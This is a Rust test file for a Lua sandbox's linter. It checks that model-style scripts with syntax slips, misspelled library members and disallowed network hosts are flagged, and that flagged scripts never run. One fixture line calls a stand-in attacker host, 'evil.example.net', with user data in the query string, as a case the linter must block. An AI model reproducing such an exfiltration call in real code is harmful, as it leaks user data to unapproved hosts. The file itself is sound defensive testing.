//! `moonjail lint`, `run --lint` and the session's `lint` op, through the built binary:
//! scripts written the way models write them, each with the rule ids and lines it must
//! get; the human format; and a script with an error finding that `run --lint` must not
//! run (no output, no tool call, no side effect).

use serde_json::{json, Value as Json};

use crate::support::*;

/// `(rule, line)` of every finding of error severity in a `lint --json` document.
fn errors(doc: &Json) -> Vec<(String, u64)> {
    doc["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["severity"] == "error")
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or_default().to_string(),
                f["line"].as_u64().unwrap_or_default(),
            )
        })
        .collect()
}

fn lint_json(dir: &TempDir, file: &str, extra: &[&str]) -> (Option<i32>, Json) {
    let mut args = vec!["lint", file, "--json"];
    args.extend_from_slice(extra);
    let out = moonjail(dir, &args, None);
    (out.code, out.json())
}

fn pairs(expected: &[(&str, u64)]) -> Vec<(String, u64)> {
    expected.iter().map(|(r, l)| (r.to_string(), *l)).collect()
}

/// An agent script with the mistakes models make, one kind per line.
const AGENT: &str = r#"-- fetch the weather and summarise it
function run(ctx)
  local city = ctx.city
  if city != nil then
    ctx.count += 1
  end
  local cache = io.open("/tmp/cache.json")
  local words = string.spilt(city, " ")
  local forecast = weather.lookpu{city = city}
  local first = string.match(city, "^(%a+")
  local page = http.get("https://evil.example.net/x?c=" .. city)
  local ok = http.get("https://api.example.com/v1/" .. city)
  return {cache, words, forecast, first, page, ok}
end
"#;

#[test]
fn a_script_as_models_write_it() {
    let dir = TempDir::new();
    dir.write("agent.lua", AGENT);
    let (code, doc) = lint_json(
        &dir,
        "agent.lua",
        &[
            "--tool",
            "weather.lookup=cat",
            "--allow-http",
            "api.example.com",
            "--require-run",
        ],
    );
    assert_eq!(code, Some(1), "{doc}");
    assert_eq!(doc["ok"], false);
    assert_eq!(
        errors(&doc),
        pairs(&[
            ("syntax", 4),
            ("syntax", 5),
            ("removed-global", 7),
            ("unknown-member", 8),
            ("unknown-member", 9),
            ("bad-pattern", 10),
            ("http-host", 11),
        ])
    );
    let finding = |line: u64| {
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["line"] == line && f["severity"] == "error")
            .cloned()
            .unwrap_or(Json::Null)
    };
    assert_eq!(finding(4)["suggestion"], "Lua writes 'not equal' as `~=`");
    assert!(
        finding(5)["suggestion"]
            .as_str()
            .unwrap()
            .contains("ctx.count")
            || finding(5)["suggestion"]
                .as_str()
                .unwrap()
                .contains("compound assignment")
    );
    assert_eq!(finding(9)["suggestion"], "did you mean `weather.lookup`?");
    assert!(finding(7)["message"]
        .as_str()
        .unwrap()
        .contains("on purpose"));
    assert!(finding(11)["message"]
        .as_str()
        .unwrap()
        .contains("evil.example.net:443 is not an allowed destination"));
    // Every finding has the documented shape.
    for f in doc["findings"].as_array().unwrap() {
        let mut keys: Vec<&str> = f.as_object().unwrap().keys().map(String::as_str).collect();
        keys.sort();
        assert_eq!(
            keys,
            [
                "column",
                "end_column",
                "end_line",
                "line",
                "message",
                "rule",
                "severity",
                "suggestion"
            ]
        );
    }
    let manifest = &doc["manifest"];
    assert_eq!(manifest["tools"], json!(["http.get"]));
    assert_eq!(
        manifest["hosts"],
        json!(["api.example.com:443", "evil.example.net:443"])
    );
    assert_eq!(manifest["defines"], json!(["run"]));
}

#[test]
fn a_script_written_in_javascript_habits() {
    let dir = TempDir::new();
    dir.write(
        "js.lua",
        "// sum the even numbers\nlocal total = 0\nfor i = 0, #input do\n  if input[i] % 2 == 0 && input[i] ~= null then\n    total = total + input[i]\n  else\n    continue\n  end\nend\nreturn total\n",
    );
    let (code, doc) = lint_json(&dir, "js.lua", &[]);
    assert_eq!(code, Some(1), "{doc}");
    assert_eq!(
        errors(&doc),
        pairs(&[("syntax", 1), ("syntax", 4), ("syntax", 7)])
    );
    let suggestion = |line: u64| {
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["line"] == line)
            .filter_map(|f| f["suggestion"].as_str())
            .collect::<Vec<_>>()
            .join(" | ")
    };
    assert!(suggestion(1).contains("`--`"), "{}", suggestion(1));
    assert!(suggestion(4).contains("`and`"), "{}", suggestion(4));
    assert!(suggestion(7).contains("goto continue"), "{}", suggestion(7));
    // And the warnings after the repair: `input` is not defined, the loop starts at 0.
    let warnings: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "warning")
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(warnings.contains(&"zero-based-loop"), "{doc}");
}

#[test]
fn a_clean_script_exits_zero() {
    let dir = TempDir::new();
    let path = repo().join("examples/agent.lua");
    let path = path.to_str().unwrap();
    let (code, doc) = lint_json(&dir, path, &[]);
    assert_eq!(code, Some(0), "{doc}");
    assert_eq!(doc["ok"], true);
    assert_eq!(doc["errors"], 0);
    let out = moonjail(&dir, &["lint", path], None);
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(
        out.stdout.ends_with("agent.lua: no findings\n") || out.stdout.contains("0 errors"),
        "{out:?}"
    );
}

#[test]
fn human_output_points_at_the_mistake() {
    let dir = TempDir::new();
    dir.write("s.lua", "local s = 'a,b'\nreturn string.spilt(s, ',')\n");
    let out = moonjail(&dir, &["lint", "s.lua"], None);
    assert_eq!(out.code, Some(1), "{out:?}");
    let expected = "s.lua:2:8: error[unknown-member]: the library `string` has no member `spilt`\n\
                    2 | return string.spilt(s, ',')\n  \
                      |        ^^^^^^^^^^^^\n  \
                      = help: Lua has no `string.split`: iterate with `for part in s:gmatch(\"[^,]+\") do ... end`\n\
                    s.lua: 1 error, 0 warnings, 0 notes\n";
    assert_eq!(out.stdout, expected);
    // Standard input, and code on the command line.
    let out = moonjail(&dir, &["lint", "-"], Some(b"return io.open('x')"));
    assert!(
        out.stdout.starts_with("stdin:1:8: error[removed-global]"),
        "{out:?}"
    );
    let out = mj(&["lint", "-e", "x = 1"]);
    assert_eq!(out.code, Some(0), "{out:?}");
}

#[test]
fn run_lint_does_not_run_a_script_with_errors() {
    let dir = TempDir::new();
    let marker = dir.path().join("ran");
    let tool = format!("side.effect=touch {}; echo 1", marker.display());
    dir.write(
        "bad.lua",
        "print('SIDE EFFECT')\nside.effect()\nreturn string.spilt('a', ',')\n",
    );
    let out = moonjail(
        &dir,
        &["run", "--lint", "bad.lua", "--tool", &tool, "--json"],
        None,
    );
    assert_eq!(out.code, Some(1), "{out:?}");
    let doc = out.json();
    assert_eq!(kind(&doc), "lint");
    assert_eq!(doc["output"], "");
    assert!(doc.get("tool_calls").is_none(), "{doc}");
    assert!(!marker.exists(), "the script ran");
    assert!(doc["error"]["message"]
        .as_str()
        .unwrap()
        .contains("line 3:8 [unknown-member]"));
    assert_eq!(doc["lint"]["findings"][0]["rule"], "unknown-member");
    // Human mode: the findings on stderr, the error line, status 1, nothing run.
    let out = moonjail(&dir, &["run", "--lint", "bad.lua", "--tool", &tool], None);
    assert_eq!(out.code, Some(1), "{out:?}");
    assert!(!out.stdout.contains("SIDE EFFECT"), "{out:?}");
    assert!(
        out.stderr.contains("bad.lua:3:8: error[unknown-member]"),
        "{out:?}"
    );
    assert!(out.stderr.contains("moonjail: lint error"), "{out:?}");
    assert!(!marker.exists(), "the script ran");
    // Without --lint, it runs (and fails at line 3, after its side effects).
    let out = moonjail(&dir, &["run", "bad.lua", "--tool", &tool, "--json"], None);
    assert_eq!(kind(&out.json()), "runtime");
    assert!(marker.exists());
    // Warnings only: linted, then run, the report alongside.
    let (code, doc) = json_eval("local unused = 1 return 2", &["--lint"]);
    assert_eq!(code, Some(0), "{doc}");
    assert_eq!(doc["result"], 2);
    assert_eq!(doc["lint"]["findings"][0]["rule"], "unused-local");
}

#[test]
fn the_session_lints_without_running() {
    let (responses, code) = session(
        &[],
        &[
            r#"{"id":1,"op":"lint","code":"n = 1\nreturn io.open('x')"}"#,
            r#"{"id":2,"op":"exec","code":"return n"}"#,
            r#"{"id":3,"op":"lint","cod":"x"}"#,
        ],
    );
    assert_eq!(code, Some(0));
    assert_eq!(responses[0]["id"], 1);
    assert_eq!(responses[0]["ok"], true);
    assert_eq!(
        responses[0]["lint"]["findings"][0]["rule"],
        "removed-global"
    );
    assert_eq!(responses[0]["lint"]["findings"][0]["line"], 2);
    assert_eq!(responses[0]["lint"]["manifest"]["defines"], json!(["n"]));
    // The linted chunk did not run: `n` is still nil.
    assert_eq!(responses[1]["result"], Json::Null);
    assert_eq!(kind(&responses[2]), "input");
}

#[test]
fn misuse_and_help() {
    let out = mj(&["lint"]);
    assert_eq!(out.code, Some(2), "{out:?}");
    let out = mj(&["lint", "--json"]);
    assert_eq!(out.code, Some(2), "{out:?}");
    assert_eq!(kind(&out.json()), "input");
    let out = mj(&["lint", "/nonexistent/x.lua"]);
    assert_misuse(&out, "reading /nonexistent/x.lua");
    let out = mj(&["lint", "--profile", "nope", "-e", "x"]);
    assert_eq!(out.code, Some(2), "{out:?}");
    let out = mj(&["lint", "--help"]);
    assert_eq!(out.code, Some(0));
    for fragment in [
        "Examples:",
        "moonjail run --lint",
        "--allow-http",
        "Exit status",
    ] {
        assert!(out.stdout.contains(fragment), "{fragment}: {}", out.stdout);
    }
}
